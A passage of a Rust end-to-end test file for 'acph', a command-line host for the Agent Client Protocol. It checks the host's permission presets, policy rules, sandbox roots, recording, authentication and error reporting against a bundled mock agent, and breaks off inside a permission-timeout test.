//! End-to-end: the real `acph` binary against the bundled mock agent. Every child process runs
//! under a timeout, so a hang fails the test instead of blocking the suite.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};
use std::sync::OnceLock;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use serde_json::Value;

const ACPH: &str = env!("CARGO_BIN_EXE_acph");
const TIMEOUT: Duration = Duration::from_secs(20);

/// The mock agent must sit next to `acph`; build it once if it is missing.
pub(crate) fn ensure_mock() -> PathBuf {
    static MOCK: OnceLock<PathBuf> = OnceLock::new();
    MOCK.get_or_init(|| {
        let dir = Path::new(ACPH).parent().unwrap();
        let mock = dir.join(format!("acp-mock-agent{}", std::env::consts::EXE_SUFFIX));
        if !mock.is_file() {
            let cargo = std::env::var("CARGO").unwrap_or_else(|_| "cargo".into());
            let mut cmd = Command::new(cargo);
            cmd.args(["build", "-p", "acp-mock-agent"]);
            if dir.file_name().is_some_and(|n| n == "release") {
                cmd.arg("--release");
            }
            let status = cmd.status().expect("run cargo build -p acp-mock-agent");
            assert!(status.success(), "cargo build -p acp-mock-agent failed");
        }
        assert!(mock.is_file(), "{} missing after build", mock.display());
        mock
    })
    .clone()
}

/// A fresh directory under the system temp dir, removed on drop.
#[derive(Debug)]
pub(crate) struct Scratch(PathBuf);

impl Scratch {
    pub(crate) fn new(tag: &str) -> Scratch {
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let n = NEXT.fetch_add(1, Ordering::Relaxed);
        let dir = std::env::temp_dir().join(format!("acph-{tag}-{}-{n}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        Scratch(dir)
    }

    /// A scratch dir holding a README.md (the default mock agent reads it).
    pub(crate) fn project() -> Scratch {
        let dir = Scratch::new("proj");
        std::fs::write(dir.0.join("README.md"), "# demo project\nfor acph tests\n").unwrap();
        dir
    }

    fn path(&self) -> &Path {
        &self.0
    }

    pub(crate) fn str(&self) -> &str {
        self.0.to_str().unwrap()
    }

    pub(crate) fn join(&self, name: &str) -> PathBuf {
        self.0.join(name)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

#[derive(Debug)]
pub(crate) struct Output {
    pub(crate) status: ExitStatus,
    pub(crate) stdout: String,
    pub(crate) stderr: String,
}

impl Output {
    fn stderr_lines(&self) -> Vec<&str> {
        self.stderr
            .lines()
            .filter(|l| !l.trim().is_empty())
            .collect()
    }

    /// Every stdout line as JSON (panics on a line that is not).
    pub(crate) fn events(&self) -> Vec<Value> {
        self.stdout
            .lines()
            .map(|l| {
                serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON: {l:?}: {e}\n{self:?}"))
            })
            .collect()
    }
}

/// Run `acph` with `args` (stdin `input` or null), killed after [`TIMEOUT`]. It runs in a scratch
/// directory of its own, so a session without `--cwd` writes nothing anywhere else.
fn acph_with(args: &[&str], program: &str, input: Option<&str>) -> Output {
    acph_with_env(args, program, input, &[])
}

fn acph_with_env(
    args: &[&str],
    program: &str,
    input: Option<&str>,
    env: &[(&str, &str)],
) -> Output {
    ensure_mock();
    let here = Scratch::new("cwd");
    let mut cmd = Command::new(program);
    cmd.args(args)
        .current_dir(here.path())
        .stdin(if input.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .env_remove("ACP_MOCK_SCENARIO")
        .env_remove("ACP_MOCK_VERBOSE")
        .env_remove("ACP_MOCK_CREDENTIALS")
        .env("NO_COLOR", "1");
    cmd.envs(env.iter().copied());
    let mut child = cmd.spawn().expect("spawn acph");
    if let Some(input) = input {
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(input.as_bytes()).unwrap();
    }
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let out_t = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = out.read_to_string(&mut s);
        s
    });
    let err_t = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = err.read_to_string(&mut s);
        s
    });
    let start = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if start.elapsed() > TIMEOUT {
            let _ = child.kill();
            let _ = child.wait();
            panic!("acph {args:?} did not finish within {TIMEOUT:?}");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    Output {
        status,
        stdout: out_t.join().unwrap(),
        stderr: err_t.join().unwrap(),
    }
}

pub(crate) fn acph(args: &[&str]) -> Output {
    acph_with(args, ACPH, None)
}

fn kinds(events: &[Value]) -> Vec<&str> {
    events.iter().map(|e| e["kind"].as_str().unwrap()).collect()
}

fn all<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["kind"] == kind).collect()
}

fn find<'a>(events: &'a [Value], kind: &str) -> &'a Value {
    events
        .iter()
        .find(|e| e["kind"] == kind)
        .unwrap_or_else(|| panic!("no {kind} event in {:?}", kinds(events)))
}

/// The NDJSON contract: every line JSON, seq strictly increasing, agent_exited last.
fn check_stream(events: &[Value]) {
    assert!(!events.is_empty());
    let seqs: Vec<u64> = events.iter().map(|e| e["seq"].as_u64().unwrap()).collect();
    assert!(
        seqs.windows(2).all(|w| w[0] < w[1]),
        "seq not increasing: {seqs:?}"
    );
    assert_eq!(
        events.last().unwrap()["kind"],
        "agent_exited",
        "{:?}",
        kinds(events)
    );
    assert_eq!(
        kinds(events)
            .iter()
            .filter(|k| **k == "agent_exited")
            .count(),
        1
    );
}

#[test]
fn run_json_allow_streams_the_whole_turn() {
    let dir = Scratch::project();
    let out = acph(&[
        "run",
        "--json",
        "--permission",
        "allow",
        "--cwd",
        dir.str(),
        "hello",
    ]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(out.stderr, "", "{out:?}");
    let events = out.events();
    check_stream(&events);
    let k = kinds(&events);
    for kind in [
        "agent_ready",
        "session_opened",
        "permission_requested",
        "permission_resolved",
        "turn_ended",
    ] {
        assert!(k.contains(&kind), "no {kind} in {k:?}");
    }
    let resolved = find(&events, "permission_resolved");
    assert_eq!(resolved["data"]["outcome"]["outcome"], "selected");
    assert_eq!(resolved["data"]["outcome"]["optionId"], "allow-once");
    assert_eq!(resolved["data"]["decidedBy"], "host");
    assert_eq!(
        find(&events, "turn_ended")["data"]["stopReason"],
        "end_turn"
    );
    // After permission: the tool call completed.
    assert!(
        events
            .iter()
            .any(|e| e["data"]["sessionUpdate"] == "tool_call_update"
                && e["data"]["status"] == "completed")
    );
    // The host served the agent's fs and terminal requests (the `ask` preset with a decider).
    let read = find(&events, "fs_read");
    assert_eq!(read["data"]["path"], format!("{}/README.md", dir.str()));
    assert_eq!(read["data"]["outcome"], "ok");
    assert_eq!(read["data"]["bytes"], 30);
    let write = find(&events, "fs_write");
    assert_eq!(write["data"]["path"], format!("{}/notes.txt", dir.str()));
    assert_eq!(write["data"]["outcome"], "ok");
    assert_eq!(write["data"]["bytes"], 54);
    let term = find(&events, "terminal_created");
    assert_eq!(term["data"]["command"], "echo");
    assert_eq!(term["data"]["args"][0], "hello from terminal");
    assert_eq!(term["data"]["cwd"], dir.str());
    assert_eq!(term["data"]["outcome"], "ok");
    let id = term["data"]["terminalId"].as_str().unwrap();
    let exited = find(&events, "terminal_exited");
    assert_eq!(exited["data"]["terminalId"], id);
    assert_eq!(exited["data"]["exitCode"], 0);
    let notes = std::fs::read_to_string(dir.join("notes.txt")).unwrap();
    assert_eq!(
        notes,
        "Notes from acp-mock-agent\n- session: sess_1\n- turn: 1\n"
    );
}

#[test]
fn run_json_deny_rejects_once() {
    let dir = Scratch::project();
    let out = acph(&["run", "--json", "--permission", "deny", "--cwd", dir.str()]);
    assert!(out.status.success(), "{out:?}");
    let events = out.events();
    check_stream(&events);
    let resolved = find(&events, "permission_resolved");
    assert_eq!(resolved["data"]["outcome"]["outcome"], "selected");
    assert_eq!(resolved["data"]["outcome"]["optionId"], "reject-once");
    // No decider: the deny-all preset decides.
    assert_eq!(resolved["data"]["decidedBy"], "rule");
    assert_eq!(resolved["data"]["rule"], "preset deny-all");
    assert!(all(&events, "fs_write").is_empty(), "{:?}", kinds(&events));
    assert!(all(&events, "terminal_created").is_empty());
    assert!(!dir.join("notes.txt").exists());
    assert_eq!(
        find(&events, "turn_ended")["data"]["stopReason"],
        "end_turn"
    );
    assert!(events.iter().any(
        |e| e["data"]["sessionUpdate"] == "tool_call_update" && e["data"]["status"] == "failed"
    ));
}

#[test]
fn no_terminal_defaults_to_deny() {
    let out = acph(&["run", "--json"]);
    assert!(out.status.success(), "{out:?}");
    let events = out.events();
    let resolved = find(&events, "permission_resolved");
    assert_eq!(resolved["data"]["outcome"]["optionId"], "reject-once");
}

#[test]
fn run_readable_transcript() {
    let dir = Scratch::project();
    let out = acph(&["run", "--permission", "allow", "--cwd", dir.str()]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(out.stderr, "", "{out:?}");
    let s = &out.stdout;
    assert!(
        s.contains("Hello! I am the ACP mock agent. I will take a few notes"),
        "{s}"
    );
    assert!(s.contains("[tool] Write notes.txt (edit) pending"), "{s}");
    assert!(
        s.contains("[permission] Write notes.txt -> allowed (allow-once) by host"),
        "{s}"
    );
    assert!(s.contains("  [x] Write notes.txt"), "{s}");
    assert!(s.contains("[usage] 1234 / 200000 tokens"), "{s}");
    assert!(s.trim_end().ends_with("[turn ended: end_turn]"), "{s}");
    assert!(!s.contains('\x1b'), "no colour without a terminal: {s:?}");
    let d = dir.str();
    for line in [
        format!("[fs] read {d}/README.md (30 bytes)"),
        format!("[fs] write {d}/notes.txt (54 bytes)"),
        format!("[terminal] term_1 started: echo hello from terminal (cwd {d})"),
        "[terminal] term_1 exited (code 0)".to_owned(),
    ] {
        assert!(s.lines().any(|l| l == line), "no {line:?} in\n{s}");
    }
    assert!(dir.join("notes.txt").is_file());
}

#[test]
fn run_record_writes_the_connection_and_never_over_a_file() {
    let dir = Scratch::project();
    let file = dir.join("run.acprec.jsonl");
    let out = acph(&[
        "run",
        "--permission",
        "allow",
        "--cwd",
        dir.str(),
        "--record",
        &file.to_string_lossy(),
    ]);
    assert!(out.status.success(), "{out:?}");
    let text = std::fs::read_to_string(&file).unwrap();
    let lines: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines[0]["acpRecording"], 3, "{text}");
    assert!(
        lines
            .iter()
            .any(|l| l["dir"] == "out" && l["msg"]["method"] == "session/prompt")
    );
    assert!(
        lines
            .iter()
            .any(|l| l["event"]["kind"] == "permission_resolved")
    );
    assert!(
        lines.last().unwrap().get("end").is_some(),
        "the file is whole when acph exits"
    );
    // Again into the same file: refused before anything starts, the recording left as it was.
    let again = acph(&["run", "--record", &file.to_string_lossy()]);
    assert_eq!(again.status.code(), Some(1), "{again:?}");
    assert!(again.stderr.contains("the file exists"), "{again:?}");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), text);
}

#[test]
fn run_readable_deny_writes_nothing() {
    let dir = Scratch::project();
    let out = acph(&["run", "--permission", "deny", "--cwd", dir.str()]);
    assert!(out.status.success(), "{out:?}");
    let s = &out.stdout;
    assert!(
        s.contains("[permission] Write notes.txt -> denied (reject-once) by rule: preset deny-all"),
        "{s}"
    );
    assert!(!s.contains("[fs] write"), "{s}");
    assert!(!s.contains("[terminal]"), "{s}");
    assert!(!dir.join("notes.txt").exists());
}

#[test]
fn read_only_preset_denies_the_edit_by_rule() {
    let dir = Scratch::project();
    let out = acph(&[
        "run",
        "--policy",
        "read-only",
        "--permission",
        "allow",
        "--cwd",
        dir.str(),
    ]);
    assert!(out.status.success(), "{out:?}");
    let s = &out.stdout;
    assert!(
        s.contains(
            "[permission] Write notes.txt -> denied (reject-once) by rule: preset read-only"
        ),
        "{s}"
    );
    assert!(!s.contains("[fs] write"), "{s}");
    assert!(!dir.join("notes.txt").exists());
}

/// The host grants the tool call, then the policy file refuses the write itself.
#[test]
fn policy_file_denies_the_fs_write() {
    let dir = Scratch::project();
    let policy = dir.join("policy.json");
    std::fs::write(
        &policy,
        r#"{"preset":"ask","rules":[{"action":"deny","operations":["write"],"paths":["**/notes.txt"]}]}"#,
    )
    .unwrap();
    let policy = policy.to_str().unwrap();
    let d = dir.str();
    let out = acph(&[
        "run",
        "--policy",
        policy,
        "--permission",
        "allow",
        "--cwd",
        d,
    ]);
    assert!(out.status.success(), "{out:?}");
    let s = &out.stdout;
    assert!(
        s.contains("[permission] Write notes.txt -> allowed (allow-once) by host"),
        "{s}"
    );
    let denied = format!("[fs] write {d}/notes.txt DENIED (rule: rules[0] (deny");
    assert!(s.lines().any(|l| l.starts_with(&denied)), "{s}");
    // Reads and terminals are still served (preset ask).
    assert!(
        s.contains(&format!("[fs] read {d}/README.md (30 bytes)")),
        "{s}"
    );
    assert!(s.contains("[terminal] term_1 exited (code 0)"), "{s}");
    assert!(!dir.join("notes.txt").exists());

    let out = acph(&[
        "run",
        "--json",
        "--policy",
        policy,
        "--permission",
        "allow",
        "--cwd",
        d,
    ]);
    assert!(out.status.success(), "{out:?}");
    let events = out.events();
    check_stream(&events);
    let write = find(&events, "fs_write");
    assert_eq!(write["data"]["outcome"], "denied");
    assert!(
        write["data"]["rule"]
            .as_str()
            .unwrap()
            .starts_with("rules[0]"),
        "{write}"
    );
    assert!(!dir.join("notes.txt").exists());
}

#[test]
fn bad_policy_fails_before_spawning() {
    let dir = Scratch::new("policy");
    let bad = dir.join("bad-policy.json");
    std::fs::write(&bad, r#"{"rules": [{"action": "permit"}]}"#).unwrap();
    for json in [true, false] {
        let mut args = vec![
            "run",
            "--permission",
            "allow",
            "--policy",
            bad.to_str().unwrap(),
        ];
        if json {
            args.push("--json");
        }
        let out = acph(&args);
        assert_eq!(out.status.code(), Some(1), "{out:?}");
        // No agent was spawned: not even an agent_exited event.
        assert_eq!(out.stdout, "", "{out:?}");
        let lines = out.stderr_lines();
        assert_eq!(lines.len(), 1, "{out:?}");
        // The core's error, as every face reports it: `invalid_config` at the spot in the file.
        assert!(
            lines[0].starts_with("acph: invalid config: policy.rules[0].action: "),
            "{lines:?}"
        );
        assert!(lines[0].contains("bad-policy.json"), "{lines:?}");
        assert!(lines[0].contains("rules[0].action"), "{lines:?}");
    }

    // Neither a file nor a preset; a directory cannot be read.
    for arg in ["no-such-preset", dir.str()] {
        let out = acph(&["run", "--json", "--policy", arg]);
        assert_eq!(out.status.code(), Some(1), "{out:?}");
        assert_eq!(out.stdout, "", "{out:?}");
        let lines = out.stderr_lines();
        assert_eq!(lines.len(), 1, "{out:?}");
        assert!(lines[0].contains(arg), "{lines:?}");
    }
}

#[test]
fn policy_denies_a_terminal_and_signals_are_shown() {
    let dir = Scratch::new("term");
    let policy = dir.join("policy.json");
    std::fs::write(
        &policy,
        r#"{"rules":[{"action":"deny","commands":["echo *"],"description":"no echo"}]}"#,
    )
    .unwrap();
    let out = acph(&[
        "run",
        "--permission",
        "allow",
        "--cwd",
        dir.str(),
        "--policy",
        policy.to_str().unwrap(),
        "--scenario",
        "terminal",
    ]);
    assert!(out.status.success(), "{out:?}");
    let s = &out.stdout;
    assert!(
        s.contains("[terminal] DENIED: echo hello (rule: rules[0] (deny: no echo))"),
        "{s}"
    );
    // `sleep 30` is allowed (preset ask), then killed by the agent.
    assert!(
        s.contains(&format!(
            "[terminal] term_1 started: sleep 30 (cwd {})",
            dir.str()
        )),
        "{s}"
    );
    assert!(
        s.contains("[terminal] term_1 exited (signal SIGKILL)"),
        "{s}"
    );
}

/// `--root` widens the sandbox beyond the session's cwd.
#[test]
fn root_adds_a_sandbox_root() {
    let dir = Scratch::new("cwd");
    let other = Scratch::new("root");
    let target = other.join("x.txt");
    let scenario = dir.join("write-elsewhere.json");
    let script = serde_json::json!({"prompts": [[{"request": {
        "method": "fs/write_text_file", "as": "w",
        "params": {"sessionId": "$SESSION", "path": target.to_str().unwrap(), "content": "hi\n"}
    }}]]});
    std::fs::write(&scenario, script.to_string()).unwrap();
    let mock = ensure_mock();
    let (mock, scenario) = (mock.to_str().unwrap(), scenario.to_str().unwrap());
    let t = target.to_str().unwrap();

    let base = ["run", "--permission", "allow", "--cwd", dir.str()];
    let agent = ["--", mock, "--scenario", scenario];
    let out = acph(&[&base[..], &agent[..]].concat());
    assert!(out.status.success(), "{out:?}");
    let line = format!("[fs] write {t} failed: outside_roots: ");
    assert!(out.stdout.lines().any(|l| l.starts_with(&line)), "{out:?}");
    assert!(!target.exists());

    // Relative to acph's own working directory (a sibling scratch dir), with `..`: made
    // absolute and resolved (the sandbox never matches a root containing `..`).
    let relative = format!("../{}", other.path().file_name().unwrap().to_str().unwrap());
    let out = acph(&[&base[..], &["--root", &relative], &agent[..]].concat());
    assert!(out.status.success(), "{out:?}");
    assert!(
        out.stdout.contains(&format!("[fs] write {t} (3 bytes)")),
        "{out:?}"
    );
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "hi\n");

    // A root that does not exist (yet) grants nothing, as in every face; a relative path in a
    // document is refused (only the command line's paths are resolved).
    let out = acph(&["run", "--root", "/nonexistent/acph-root"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let options = dir.join("options.json");
    std::fs::write(&options, r#"{"roots": ["relative/dir"]}"#).unwrap();
    let out = acph(&["run", "--options", options.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_eq!(
        out.stderr_lines(),
        [
            "acph: invalid config: roots[0]: must be an absolute path, got `relative/dir` (relative paths are not resolved)"
        ]
    );
}

#[test]
fn crash_mid_turn_fails_with_one_line() {
    for json in [true, false] {
        let mut args = vec![
            "run",
            "--permission",
            "allow",
            "--scenario",
            "crash-mid-turn",
        ];
        if json {
            args.push("--json");
        }
        let out = acph(&args);
        assert!(!out.status.success(), "{out:?}");
        assert_eq!(out.status.code(), Some(1), "{out:?}");
        let lines = out.stderr_lines();
        assert_eq!(lines.len(), 1, "{out:?}");
        assert!(lines[0].starts_with("acph: "), "{lines:?}");
        assert!(lines[0].contains("exit code 3"), "{lines:?}");
        assert!(lines[0].contains("fatal: mock crash"), "{lines:?}");
        if json {
            let events = out.events();
            check_stream(&events);
            let ended = find(&events, "turn_ended");
            assert!(ended["data"]["stopReason"].is_null());
            assert_eq!(ended["data"]["error"]["kind"], "agent_exited");
            assert_eq!(events.last().unwrap()["data"]["exitCode"], 3);
        } else {
            assert!(
                out.stdout.contains("Starting work... still working..."),
                "{out:?}"
            );
        }
    }
}

#[test]
fn version_mismatch_fails_with_one_line() {
    let out = acph(&["run", "--json", "--scenario", "version-mismatch"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let lines = out.stderr_lines();
    assert_eq!(lines.len(), 1, "{out:?}");
    assert!(lines[0].contains("version 2"), "{lines:?}");
    // The agent was started, so its end is reported too.
    let events = out.events();
    assert_eq!(events.last().unwrap()["kind"], "agent_exited", "{out:?}");

    let out = acph(&["probe", "--scenario", "version-mismatch"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_eq!(out.stdout, "");
    let lines = out.stderr_lines();
    assert_eq!(lines.len(), 1, "{out:?}");
    assert!(lines[0].contains("version 2"), "{lines:?}");
}

#[test]
fn mode_switch_through_set_mode() {
    let out = acph(&["run", "--json", "--permission", "deny", "--mode", "code"]);
    assert!(out.status.success(), "{out:?}");
    let events = out.events();
    check_stream(&events);
    let opened = find(&events, "session_opened");
    assert_eq!(opened["data"]["modes"]["currentModeId"], "ask");
    // The mock confirms with a current_mode_update right after its set_mode response; the prompt
    // may already be on its way by then, so only its presence is checked, not its position.
    let switched = events.iter().any(|e| {
        e["data"]["sessionUpdate"] == "current_mode_update" && e["data"]["currentModeId"] == "code"
    });
    assert!(switched, "no current_mode_update: {:?}", kinds(&events));
    let started = find(&events, "turn_started");
    assert!(started["seq"].is_u64());

    let out = acph(&["run", "--permission", "deny", "--mode", "code"]);
    assert!(out.status.success(), "{out:?}");
    assert!(out.stdout.contains("[mode] code"), "{out:?}");
}

#[test]
fn mode_switch_through_config_option() {
    // A session with config options but no legacy `modes`.
    let dir = std::env::temp_dir().join(format!("acph-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let scenario = dir.join("config-only.json");
    std::fs::write(
        &scenario,
        r#"{"newSession": {"modes": null},
            "prompts": [[{"update": {"sessionUpdate": "agent_message_chunk", "content": {"type": "text", "text": "ok"}}}]]}"#,
    )
    .unwrap();
    let mock = ensure_mock();
    let (mock, scenario) = (mock.to_str().unwrap(), scenario.to_str().unwrap());
    let out = acph(&[
        "run",
        "--json",
        "--mode",
        "architect",
        "--",
        mock,
        "--scenario",
        scenario,
        "--verbose",
    ]);
    assert!(out.status.success(), "{out:?}");
    let events = out.events();
    check_stream(&events);
    assert!(find(&events, "session_opened")["data"]["modes"].is_null());
    // The mock logs its traffic on stderr (--verbose): the switch went through set_config_option.
    let traffic: Vec<&str> = events
        .iter()
        .filter(|e| e["kind"] == "agent_stderr")
        .filter_map(|e| e["data"]["line"].as_str())
        .collect();
    assert!(
        traffic
            .iter()
            .any(|l| l.contains("session/set_config_option")),
        "{traffic:?}"
    );
    assert!(
        !traffic.iter().any(|l| l.contains("session/set_mode")),
        "{traffic:?}"
    );

    let out = acph(&["run", "--mode", "nope", "--", mock, "--scenario", scenario]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let lines = out.stderr_lines();
    assert_eq!(lines.len(), 1, "{out:?}");
    assert!(lines[0].contains("unknown mode `nope`"), "{lines:?}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn probe_json_prints_capabilities() {
    let out = acph(&["probe", "--json"]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(out.stderr, "");
    let lines: Vec<&str> = out.stdout.lines().collect();
    assert_eq!(lines.len(), 1, "{out:?}");
    let v: Value = serde_json::from_str(lines[0]).unwrap();
    assert_eq!(v["protocolVersion"], 1);
    assert_eq!(v["agentInfo"]["name"], "acp-mock-agent");
    assert_eq!(v["agentCapabilities"]["loadSession"], true);
    assert!(v["agentCapabilities"]["promptCapabilities"].is_object());
    assert!(v["authMethods"].is_array());
}

#[test]
fn probe_readable_lists_auth_methods() {
    let out = acph(&["probe", "--scenario", "auth-required"]);
    assert!(out.status.success(), "{out:?}");
    let s = &out.stdout;
    assert!(s.contains("protocol version: 1"), "{s}");
    assert!(s.contains("agent: acp-mock-agent"), "{s}");
    assert!(s.contains("loadSession"), "{s}");
    assert!(s.contains("mock-login: Mock login (agent)"), "{s}");
    assert!(
        s.contains("mock-terminal: Mock terminal login (terminal)"),
        "{s}"
    );
}

#[test]
fn auth_required_then_auth() {
    let out = acph(&["run", "--scenario", "auth-required"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let lines = out.stderr_lines();
    assert_eq!(lines.len(), 1, "{out:?}");
    assert!(lines[0].contains("authentication required"), "{lines:?}");
    assert!(lines[0].contains("mock-login"), "{lines:?}");

    let out = acph(&["run", "--auth", "mock-login", "--scenario", "auth-required"]);
    assert!(out.status.success(), "{out:?}");
    assert!(out.stdout.contains("You are logged in."), "{out:?}");
}

#[test]
fn a_terminal_login_runs_then_the_relaunched_agent_opens_the_session() {
    let dir = Scratch::new("creds");
    let creds = dir.path().join("credentials");
    let creds = creds.to_str().unwrap();
    let env = [("ACP_MOCK_CREDENTIALS", creds)];
    let args = [
        "run",
        "--auth",
        "mock-terminal",
        "--scenario",
        "auth-required",
    ];
    let out = acph_with_env(&args, ACPH, None, &env);
    assert!(out.status.success(), "{out:?}");
    assert!(std::path::Path::new(creds).exists(), "the login ran");
    assert!(out.stderr.contains("running the agent's login"), "{out:?}");
    // The login's own output reached the terminal (stdout here), then the turn's.
    assert!(out.stdout.contains("acp-mock-agent: logged in"), "{out:?}");
    assert!(out.stdout.contains("You are logged in."), "{out:?}");

    // --json: stdout stays NDJSON (the login's output goes to stderr).
    std::fs::remove_file(creds).unwrap();
    let mut json_args = vec!["run", "--json"];
    json_args.extend_from_slice(&args[1..]);
    let out = acph_with_env(&json_args, ACPH, None, &env);
    assert!(out.status.success(), "{out:?}");
    for line in out.stdout.lines() {
        serde_json::from_str::<Value>(line).unwrap_or_else(|e| panic!("{line:?}: {e}"));
    }
    assert!(out.stderr.contains("acp-mock-agent: logged in"), "{out:?}");

    // A login that fails: one line, exit 1.
    std::fs::remove_file(creds).unwrap();
    let env = [
        ("ACP_MOCK_CREDENTIALS", creds),
        ("ACP_MOCK_LOGIN_FAIL", "1"),
    ];
    let out = acph_with_env(&args, ACPH, None, &env);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(
        out.stderr_lines()
            .last()
            .unwrap()
            .contains("exited with status 3"),
        "{out:?}"
    );
}

#[test]
fn missing_agent_command_fails_with_one_line() {
    for sub in ["run", "probe"] {
        let out = acph(&[sub, "--", "/nonexistent/acph-test-agent", "--x"]);
        assert_eq!(out.status.code(), Some(1), "{out:?}");
        assert_eq!(out.stdout, "", "{out:?}");
        let lines = out.stderr_lines();
        assert_eq!(lines.len(), 1, "{out:?}");
        assert!(
            lines[0].contains("/nonexistent/acph-test-agent"),
            "{lines:?}"
        );
    }
}

#[test]
fn missing_bundled_mock_fails_with_one_line() {
    // acph alone in a directory, with nothing on PATH.
    let dir = std::env::temp_dir().join(format!("acph-lonely-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let lonely = dir.join(format!("acph{}", std::env::consts::EXE_SUFFIX));
    std::fs::copy(ACPH, &lonely).unwrap();
    let mut cmd = Command::new(&lonely);
    cmd.args(["run", "--json"])
        .env("PATH", "")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    // The copy's write descriptor may still be open in a child another test thread is forking
    // (until that child's exec closes it): Linux refuses to run the file meanwhile (ETXTBSY).
    let mut tries = 0;
    let out = loop {
        match cmd.output() {
            Err(e) if e.kind() == std::io::ErrorKind::ExecutableFileBusy && tries < 100 => {
                tries += 1;
                std::thread::sleep(Duration::from_millis(20));
            }
            other => break other.unwrap(),
        }
    };
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert!(out.stdout.is_empty());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(stderr.contains("acp-mock-agent"), "{stderr}");
}

#[test]
fn scenario_with_agent_command_is_a_usage_error() {
    let out = acph(&["run", "--scenario", "default", "--", "some-agent"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    assert_eq!(out.stderr_lines().len(), 1, "{out:?}");
}

#[test]
fn protocol_noise_is_a_warning_on_stderr() {
    let out = acph(&["run", "--scenario", "garbage-stdout"]);
    assert!(out.status.success(), "{out:?}");
    assert!(out.stdout.contains("one two three"), "{out:?}");
    assert!(!out.stdout.contains("not json at all"), "{out:?}");
    let lines = out.stderr_lines();
    assert!(!lines.is_empty());
    assert!(
        lines.iter().all(|l| l.starts_with("acph: warning: ")),
        "{lines:?}"
    );
}

#[test]
fn verbose_shows_agent_stderr() {
    let out = acph(&["-v", "run", "--scenario", "crash-mid-turn"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let lines = out.stderr_lines();
    assert!(
        lines.contains(&"[agent stderr] fatal: mock crash"),
        "{lines:?}"
    );
    assert!(lines.last().unwrap().contains("exit code 3"), "{lines:?}");
}

/// `ask` reads the answer from stdin when there is no terminal at all (no controlling tty:
/// run under `setsid`, when available).
#[test]
fn ask_reads_the_answer_without_a_terminal() {
    let setsid = ["/usr/bin/setsid", "/bin/setsid"]
        .into_iter()
        .find(|p| Path::new(p).is_file());
    let Some(setsid) = setsid else {
        // Nothing to run it under; the unit tests cover answer parsing.
        return;
    };
    for (answer, option, by) in [
        ("1\n", "allow-once", "host"),
        ("3\n", "reject-once", "host"),
        ("bogus\n", "reject-once", "host"),
        ("", "reject-once", "host"),
    ] {
        let dir = Scratch::project();
        let out = acph_with(
            &[
                "-w",
                ACPH,
                "run",
                "--json",
                "--permission",
                "ask",
                "--cwd",
                dir.str(),
            ],
            setsid,
            Some(answer),
        );
        assert!(out.status.success(), "{out:?}");
        let events = out.events();
        check_stream(&events);
        let resolved = find(&events, "permission_resolved");
        assert_eq!(
            resolved["data"]["outcome"]["optionId"], option,
            "{answer:?}"
        );
        assert_eq!(resolved["data"]["decidedBy"], by);
        assert!(out.stderr.contains("Write notes.txt (edit)"), "{out:?}");
        assert!(out.stderr.contains("1) Allow once [allow_once]"), "{out:?}");
        assert_eq!(dir.join("notes.txt").exists(), option == "allow-once");
    }
}

/// A permission nobody answers is denied by the timeout (ask mode, stdin silent but open).
#[test]
fn ask_times_out() {
    let setsid = ["/usr/bin/setsid", "/bin/setsid"]
        .into_iter()
        .find(|p| Path::new(p).is_file());
    let Some(setsid) = setsid else {
        // Nothing to run it under; the unit tests cover answer parsing.
        return;
    };
    ensure_mock();
    let here = Scratch::new("cwd");
    let mut child = Command::new(setsid)
        .args([
            "-w",
            ACPH,
            "run",
            "--json",
            "--permission",
            "ask",
            "--permission-timeout",
            "0.3",
        ])
        .current_dir(here.path())
        .env_remove("ACP_MOCK_SCENARIO")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let stdin = child.stdin.take();
    let mut stdout = child.stdout.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut s = String::new();
        let _ = stdout.read_to_string(&mut s);
        s
    });
    let start = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
